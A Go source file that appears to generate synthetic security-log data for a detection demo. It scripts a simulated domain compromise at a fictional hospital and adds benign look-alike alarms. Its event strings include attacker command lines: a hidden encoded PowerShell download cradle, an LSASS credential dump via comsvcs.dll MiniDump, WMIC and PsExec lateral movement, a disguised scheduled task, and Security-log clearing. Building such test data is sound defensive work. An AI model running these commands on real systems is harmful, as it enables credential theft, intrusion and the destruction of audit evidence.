package demo

import "time"

// domainTheft is the third attack: a document opens a shell, passwords are taken from memory and used on the next machines, traces are wiped.
func domainTheft(p *plotter) {
	const (
		victim, user, admin = "WS-07", "nurse07", "adm-desk"
		shell               = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		cmd                 = `C:\Windows\System32\cmd.exe`
	)
	n := hisDomain()
	record := 900_000
	next := func() int { record++; return record }
	say := func(after time.Duration, e winEvent) { p.add(hisWindows, after, e.json) }
	var from string
	for _, c := range n.computers {
		if c.name == victim {
			from = c.addr
		}
	}
	run := func(after time.Duration, computer, user, image, line, parent string) {
		say(after, n.process(computer, user, image, line, parent, next()))
	}
	p.begin("windows.document")
	run(0, victim, user, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n "C:\Users\nurse07\Downloads\duty-roster.docm"`, `C:\Windows\explorer.exe`)
	run(6*time.Second, victim, user, shell, "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)
	say(8*time.Second, n.event(victim, sysmonChannel, sysmon, 3, next(), "Network connection detected", object{
		"Image": shell, "User": n.name + `\` + user, "Protocol": "tcp", "Initiated": "true", "SourceIp": from, "SourcePort": "50112", "DestinationIp": farEnd, "DestinationPort": "443",
	}))
	p.begin("windows.discovery")
	run(0, victim, user, `C:\Windows\System32\whoami.exe`, "whoami /all", shell)
	run(20*time.Second, victim, user, `C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`, shell)
	run(45*time.Second, victim, user, `C:\Windows\System32\nltest.exe`, "nltest /dclist:hospital.example", shell)
	p.begin("windows.lsass")
	say(0, n.event(victim, sysmonChannel, sysmon, 10, next(), "Process accessed", object{
		"SourceImage": `C:\Users\nurse07\AppData\Roaming\m.exe`, "TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x1010",
		"SourceProcessId": "6120", "TargetProcessId": "712", "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|UNKNOWN(00000000)`, "SourceUser": n.name + `\` + user, "TargetUser": `NT AUTHORITY\SYSTEM`,
	}))
	run(50*time.Second, victim, "SYSTEM", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full`, cmd)
	p.begin("windows.hash")
	hash := n.logon(victim, user, "::1", 9, next(), "seclogo", "Negotiate")
	hash.data["SubjectUserName"], hash.data["SubjectDomainName"] = user, n.name
	hash.data["TargetOutboundUserName"], hash.data["TargetOutboundDomainName"] = admin, n.name
	say(0, hash)
	p.begin("windows.psexec")
	say(0, n.logon("FS01", admin, from, 3, next(), "NtLmSsp ", "NTLM"))
	say(400*time.Millisecond, n.event("FS01", "Security", securityAuditing, 4672, next(), "Special privileges assigned to new logon.", object{
		"SubjectUserName": admin, "SubjectDomainName": n.name, "PrivilegeList": "SeDebugPrivilege SeBackupPrivilege SeTakeOwnershipPrivilege",
	}))
	say(2*time.Second, n.event("FS01", "System", serviceControl, 7045, next(), "A service was installed in the system.", object{
		"ServiceName": "PSEXESVC", "ImagePath": `%SystemRoot%\PSEXESVC.exe`, "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
	}))
	run(5*time.Second, "FS01", "SYSTEM", cmd, `"cmd.exe"`, `C:\Windows\PSEXESVC.exe`)
	p.begin("windows.wmic")
	run(0, victim, user, `C:\Windows\System32\wbem\WMIC.exe`, `wmic /node:DC01 process call create "cmd /q /k hostname > \\127.0.0.1\C$\out.txt"`, cmd)
	say(time.Second, n.logon("DC01", admin, from, 3, next(), "NtLmSsp ", "NTLM"))
	p.begin("windows.task")
	say(0, n.event("DC01", "Security", securityAuditing, 4698, next(), "A scheduled task was created.", object{
		"SubjectUserName": admin, "SubjectDomainName": n.name, "SubjectLogonId": "0x51e02", "TaskName": `\Microsoft\Windows\UpdateCheck`,
		"TaskContent": `<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>powershell.exe</Command><Arguments>-NoP -w hidden -enc SQBFAFgA</Arguments></Exec></Actions></Task>`,
	}))
	p.begin("windows.cleared")
	run(0, "FS01", "SYSTEM", `C:\Windows\System32\wevtutil.exe`, "wevtutil cl Security", cmd)
	cleared := n.event("FS01", "Security", eventlog, 1102, next(), "The audit log was cleared.", nil)
	cleared.user = object{"LogFileCleared": object{"SubjectUserSid": "S-1-5-21-1000-2000-3000-1188", "SubjectUserName": admin, "SubjectDomainName": n.name, "SubjectLogonId": "0x51e02"}}
	cleared.action = "audit-log-cleared"
	say(time.Second, cleared)
}

// alarms are harmless and look as if they were not: what an analyst closes as a false positive or as benign.
func alarms(p *plotter) {
	p.between(.215) // a night shift at the database, from inside
	p.syslog(hisLinux, 0, priAuth, "his-db01", "sshd", 9120, "Accepted password for root from 10.10.8.12 port 50210 ssh2")
	p.between(.255) // somebody forgot the password
	p.syslog(facLinux, 0, priAuth, "erp01", "sudo", 0, "dev03 : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/dev03 ; USER=root ; COMMAND=/usr/bin/systemctl restart erp")
	p.between(.545) // a colleague starts
	p.syslog(facLinux, 0, priAuth, "git01", "useradd", 9301, "new user: name=dev09, UID=1009, GID=1009, home=/home/dev09, shell=/bin/bash, from=/dev/pts/0")
	p.between(.575) // software distribution packs its script
	n := facDomain()
	p.add(facWindows, 0, n.process("PC-04", "SYSTEM", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"powershell.exe -NonInteractive -EncodedCommand RwBlAHQALQBJAHQAZQBtAFAAcgBvAHAAZQByAHQAeQAgAEgASwBMAE0AOgBcAFMAbwBmAHQAdwBhAHIAZQA=", `C:\Program Files\Deploy\agent.exe`, 800_001).json)
	for i, a := range []string{"203.0.113.201", "198.51.100.31"} { // the Internet knocks
		p.between([]float64{.18, .52}[i])
		for k, port := range []int{3389, 22, 445} {
			p.session([]Key{hisFirewall, facFirewall}[i], time.Duration(k*9)*time.Second, session{firewall: []string{"HIS-FW01", "FAC-FW01"}[i], from: a, to: []string{"192.0.2.10", "192.0.2.130"}[i],
				sport: 51000 + k, dport: port, proto: 6, service: "tcp", action: "deny", sent: 60})
		}
	}
}
